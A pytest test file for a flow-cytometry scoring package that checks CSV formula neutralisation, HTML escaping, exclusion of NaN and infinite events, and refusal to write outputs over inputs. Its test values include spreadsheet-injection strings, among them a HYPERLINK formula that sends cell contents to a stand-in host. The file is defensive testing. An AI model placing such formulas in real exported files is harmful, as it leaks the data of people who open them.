"""Hostile and careless input (issue 14): formulas in plate-map cells, outputs over inputs, bad
events, and the one-unit guarantees of a run's outputs."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import numpy as np
import pytest

from assaykit.scoring import score_run
from assaykit.scoring.tables import neutralise, restore


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "'=x", "plain", "", "1.5",
                                  '=HYPERLINK("http://x/?"&A2)'])
def test_neutralise_is_exact_and_safe(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(safe) == text


def test_formulas_in_the_plate_map_are_neutralised(simulated_run: Path, tmp_path: Path) -> None:
    from assaykit.report import build_reports

    run = tmp_path / "run"
    shutil.copytree(simulated_run, run)
    with open(run / "plate_map.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    hostile = '=HYPERLINK("http://x/?"&A2)'
    for row in rows:
        if row["condition"] == "IFN-gamma":
            row["condition"] = hostile
        row["timepoint"] = "-1+1" if row["timepoint"] else ""
        row["note"] = "=1+1"
    with open(run / "plate_map.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = score_run(run, out=tmp_path / "out", jobs=1)
    assert (result.samples["condition"] == hostile).sum() == 2  # the tables in memory keep the text
    for name in ("samples", "restoration", "patients", "cohort"):
        with open(tmp_path / "out" / f"{name}.csv", newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), name
        assert not any(c.startswith("-") and not _number(c) for c in cells), name
    with open(tmp_path / "out" / "samples.csv", newline="", encoding="utf-8") as handle:
        samples = list(csv.DictReader(handle))
    assert {s["note"] for s in samples if s["role"] == "sample"} == {"'=1+1"}
    assert "'" + hostile in {s["condition"] for s in samples}
    # the report shows the text as it was given, escaped
    build_reports(tmp_path / "out", jobs=1)
    page = (tmp_path / "out" / "patients" / "P01.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;http://x/?&#34;&amp;A2)" in page or "=HYPERLINK(&quot;http://x/?&quot;&amp;A2)" in page


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_nan_and_infinite_events_are_excluded_and_counted(simulated_run: Path, tmp_path: Path) -> None:
    from assaykit import read_fcs
    from assaykit.fcs.writer import write_fcs

    run = tmp_path / "run"
    shutil.copytree(simulated_run, run)
    path = run / "Specimen_001_A1_A01.fcs"
    sample = read_fcs(path)
    events = sample.events.astype(np.float32).copy()
    events[5, sample.channels.index("FSC-A")] = np.nan
    events[6, sample.channels.index("SSC-A")] = np.inf
    events[7, sample.channels.index("PE-A")] = -np.inf
    keywords = {k: v for k, v in sample.keywords.items() if not k.startswith(("$P", "$TOT", "$PAR", "$BEGIN",
                                                                               "$END", "$BYTEORD", "$DATATYPE",
                                                                               "$MODE", "$NEXTDATA"))}
    write_fcs(path, events, sample.channels, sample.markers, keywords)
    result = score_run(run, out=tmp_path / "out", jobs=1)
    row = result.samples.set_index("file").loc["Specimen_001_A1_A01.fcs"]
    assert row["error"] == "" and row["hladr_abc"] > 0
    assert "3 events with a missing or infinite value (NaN, inf) excluded before gating" in row["qc_flags"]


@pytest.mark.parametrize("out", [".", "reports", ".."])
def test_outputs_never_over_inputs(simulated_run: Path, tmp_path: Path, out: str) -> None:
    from assaykit.errors import AssayKitError

    run = tmp_path / "work" / "run"
    shutil.copytree(simulated_run, run)
    before = {p.name: p.read_bytes() for p in run.iterdir()}
    target = (run / out).resolve()
    with pytest.raises(AssayKitError, match="outputs may never be written over a run's inputs"):
        score_run(run, out=target, jobs=1)
    (run / "run.yaml").write_text((run / "run.yaml").read_text() + "out: .\n")
    with pytest.raises(AssayKitError, match="the output folder is the run folder"):
        score_run(run, jobs=1)
    (run / "run.yaml").write_bytes(before["run.yaml"])
    assert {p.name: p.read_bytes() for p in run.iterdir()} == before


def test_default_output_of_a_run_under_reports_is_refused(simulated_run: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from assaykit.errors import AssayKitError

    shutil.copytree(simulated_run, tmp_path / "reports" / "run")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(AssayKitError, match="the output folder is the run folder"):
        score_run(Path("reports") / "run", jobs=1)
